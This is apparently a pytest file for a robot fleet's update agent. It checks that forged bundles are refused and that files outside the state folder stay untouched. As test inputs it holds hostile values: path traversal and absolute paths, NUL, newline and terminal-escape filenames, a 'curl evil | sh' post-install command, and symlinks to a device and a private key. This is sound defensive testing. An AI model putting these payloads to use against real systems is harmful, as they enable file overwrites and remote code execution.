"""Bundles that would write outside of the state folder, or fill it: refused with a reason, and nothing else is touched.

Both delegations sign them, as after the theft of all keys of the repository or a mistake of another version.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from robot_assets.agent.state import write_state
from robot_assets.fleet import layout
from robot_assets.fleet.reports import Failure
from robot_assets.release.bundle import BUNDLE_SIZE_MAX
from tests.robots.world import GROUP, Release, Robot, World, bundle_of

ENGINE = b"evil engine"
PLAIN = {"net/engine.bin": ENGINE, "net/reference.npz": b"answers"}
HASH = hashlib.sha256(ENGINE).hexdigest()


def listing(*paths: str) -> bytes:
    """A bundle that also lists these paths."""
    document = json.loads(bundle_of(PLAIN))
    document["files"] += [{"path": path, "sha256": HASH, "size": len(ENGINE)} for path in paths]
    return json.dumps(document).encode()


def changed(**changes: Any) -> bytes:
    """A bundle with other values."""
    return json.dumps({**json.loads(bundle_of(PLAIN)), **changes}).encode()


def first_file(**changes: Any) -> bytes:
    """A bundle whose first file has other values."""
    document = json.loads(bundle_of(PLAIN))
    document["files"][0].update(changes)
    return json.dumps(document).encode()


def model(**changes: Any) -> bytes:
    """A bundle whose model has other values."""
    document = json.loads(bundle_of(PLAIN))
    document["models"]["net"].update(changes)
    return json.dumps(document).encode()


BUNDLES: dict[str, Callable[[Path], bytes]] = {
    "parent": lambda canary: listing("../canary/file"),
    "parent in the middle": lambda canary: listing("net/../../../canary/file"),
    "parent of windows": lambda canary: listing("net\\..\\..\\canary"),
    "absolute": lambda canary: listing(str(canary / "file")),
    "current folder": lambda canary: listing("net/./engine.so"),
    "empty step": lambda canary: listing("net//engine.so"),
    "empty": lambda canary: listing(""),
    "folder": lambda canary: listing("net/"),
    "nul": lambda canary: listing("net/engine\0.so"),
    "line break": lambda canary: listing("net/engine\n.so"),
    "escape": lambda canary: listing("net/\x1b]0;owned\x07"),
    "twice": lambda canary: listing("net/engine.bin"),
    "case": lambda canary: listing("net/ENGINE.bin"),
    "case of a folder": lambda canary: listing("NET/more.bin"),
    "file and folder": lambda canary: listing("net/engine.bin/more"),
    "unicode, composed and not": lambda canary: listing("net/caf\u00e9", "net/cafe\u0301"),
    "unicode, compatible": lambda canary: listing("net/engine\uff0ebin"),
    "right to left": lambda canary: listing("net/\u202egnp.exe"),
    "bundle itself": lambda canary: listing("bundle.json"),
    "bundle itself in capitals": lambda canary: listing("Bundle.json"),
    "partial folder": lambda canary: listing(".part"),
    "another folder": lambda canary: listing("state.json/more"),
    "deep": lambda canary: listing("net/" + "d/" * 5000 + "file"),
    "long name": lambda canary: listing("net/" + "n" * 5000),
    "many files": lambda canary: listing(*(f"net/{number}" for number in range(20_000))),
    "size of the world": lambda canary: first_file(size=1 << 70),
    "size of a disk": lambda canary: first_file(size=1 << 39),
    "negative size": lambda canary: first_file(size=-1),
    "size as words": lambda canary: first_file(size="many"),
    "hash as path": lambda canary: first_file(sha256="../" * 21 + "a"),
    "hash in capitals": lambda canary: first_file(sha256=HASH.upper()),
    "folder of the model": lambda canary: model(folder="../canary"),
    "tolerance": lambda canary: model(tolerance_share=float("nan")),
    "no models": lambda canary: changed(models={}),
    "model of a path": lambda canary: changed(models={"../net": json.loads(bundle_of(PLAIN))["models"]["net"]}),
    "format": lambda canary: changed(format=99),
    "unknown key": lambda canary: changed(post_install="curl evil | sh"),
    "no JSON": lambda canary: b"PK\x03\x04",
    "deep JSON": lambda canary: b"[" * 500_000,
    "key twice": lambda canary: bundle_of(PLAIN)[:-1] + b',"files": []}',
    "huge platform": lambda canary: changed(platform={"name": "p" * 900_000}, platform_fingerprint="f" * 64),
    "hostile platform": lambda canary: changed(platform={"\x1b[2J": "\x1b]0;x"}, platform_fingerprint="\x1b[31m"),
}


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A tree beside the state folder, that nobody may touch."""
    folder = tmp_path / "fleet" / "robots" / "canary"
    folder.mkdir(parents=True)
    (folder / "file").write_text("alive")
    (folder / "link").symlink_to("file")
    return folder


@pytest.fixture
def served(tmp_path: Path, canary: Path) -> tuple[World, Robot, Release]:
    world = World(tmp_path / "fleet")
    good = world.release("good")
    world.assign(good)
    robot = world.robot()
    robot.run()
    assert robot.serving() == good.id
    return world, robot, good


def outside(world: World, robot: Robot) -> dict[str, tuple[int, int, bytes]]:
    """Every file beside the state folder, the reports and the log of the robot."""
    return {
        path.relative_to(world.folder).as_posix(): (about.st_mode, about.st_mtime_ns, _content(path))
        for path in sorted(world.folder.rglob("*"))
        if not path.is_relative_to(robot.spec.state) and "reports" not in path.parts
        for about in [path.lstat()]
        if not stat.S_ISDIR(about.st_mode)
    }


def _content(path: Path) -> bytes:
    return os.readlink(path).encode() if path.is_symlink() else path.read_bytes()


def offer(world: World, bundle: bytes) -> None:
    """Both delegations name a bundle, and the files that it may be about are there."""
    evil = world.forger("releases", "assignments", "snapshot", "timestamp")
    version = hashlib.md5(bundle).hexdigest()
    sha256 = evil.release(GROUP, version, {**PLAIN, "evil": ENGINE}, bundle)
    assigned = world.assigned
    assert assigned is not None
    evil.assign(assigned.model_copy(update={"release": f"{version}.dir", "bundle_sha256": sha256}))


@pytest.mark.parametrize("name", list(BUNDLES))
def test_a_bad_bundle_is_refused_with_a_reason_and_nothing_outside_is_touched(
    name: str, served: tuple[World, Robot, Release], canary: Path
) -> None:
    world, robot, good = served
    offer(world, BUNDLES[name](canary))
    before = outside(world, robot)
    state = robot.run(2)
    assert robot.serving() == good.id
    assert outside(world, robot) == before
    report = world.reports()["r1"].report
    assert report.why, "it does not say why"
    for text in (state.why, report.why, *robot.log):
        assert text.isprintable(), text
    world.assign(world.release("next"))
    robot.clock.offset_s += 7200
    robot.run(2)
    assert robot.serving() != good.id, robot.log


def test_many_failures_with_long_reasons_fit_into_a_report(served: tuple[World, Robot, Release]) -> None:
    """A robot whose reports nobody accepts would be silent for good."""
    world, robot, good = served
    reasons = tuple(Failure(release=f"{number:032x}.dir", reason="\u00e9" * 1000) for number in range(50))
    write_state(robot.spec.state, robot.state.model_copy(update={"failed": reasons, "why": "w" * 100_000}))
    offer(world, BUNDLES["huge platform"](world.folder))
    robot.run(2)
    report = world.reports()["r1"].report
    assert report.running == good.version
    assert report.failed
    assert report.sequence > 1


def test_a_bundle_of_more_than_a_mebibyte_is_not_read(served: tuple[World, Robot, Release]) -> None:
    """Its length is in the signed metadata: a gigabyte is refused before its first byte."""
    world, robot, good = served
    offer(world, bundle_of(PLAIN))
    evil = world.forger("releases", "snapshot", "timestamp")
    (target,) = [one for one in evil.read("releases").signed.targets if good.id not in one]

    def grow(releases: Any) -> None:
        releases.targets[target].length = 1 << 30

    digest = evil.read("releases").signed.targets[target].hashes["sha256"]
    path = (world.storage / layout.TARGETS / target).parent / f"{digest}.{Path(target).name}"
    with path.open("wb") as stream:
        stream.truncate(1 << 30)
    evil.edit("releases", grow)
    evil.publish("releases")
    state = robot.run()
    assert robot.serving() == good.id
    assert str(BUNDLE_SIZE_MAX) in state.why


@pytest.mark.parametrize("kind", ["fifo", "folder", "link to a device", "link to a secret", "missing"])
def test_what_is_no_file_in_the_store_is_not_read(kind: str, served: tuple[World, Robot, Release]) -> None:
    """In a folder or on a USB stick, a blob may be anything."""
    world, robot, good = served
    world.assign(world.release("next"))
    blob = world.storage / layout.blob(hashlib.sha256(b"engine next").hexdigest())
    blob.unlink()
    if kind == "fifo":
        os.mkfifo(blob)
    elif kind == "folder":
        blob.mkdir()
    elif kind == "link to a device":
        blob.symlink_to("/dev/zero")
    elif kind == "link to a secret":
        blob.symlink_to(world.keys / "releases.pem")
    state = robot.run(2)
    assert robot.serving() == good.id
    assert state.why
    assert not state.failed
    assert not any(b"PRIVATE KEY" in path.read_bytes() for path in robot.spec.state.rglob("*") if path.is_file())


def test_links_in_the_state_folder_are_not_followed_out_of_it(
    served: tuple[World, Robot, Release], canary: Path
) -> None:
    """A download that an attacker of the disk has prepared: the names of the next release lead elsewhere."""
    world, robot, good = served
    release = world.release("next")
    world.assign(release)
    downloads = robot.spec.state / "downloads" / release.id
    downloads.mkdir(parents=True)
    (downloads / "net").symlink_to(canary)
    (canary / "engine.bin").write_bytes(b"mine")
    before = outside(world, robot)
    robot.run(2)
    assert outside(world, robot) == before
    assert robot.serving() in (good.id, release.id)
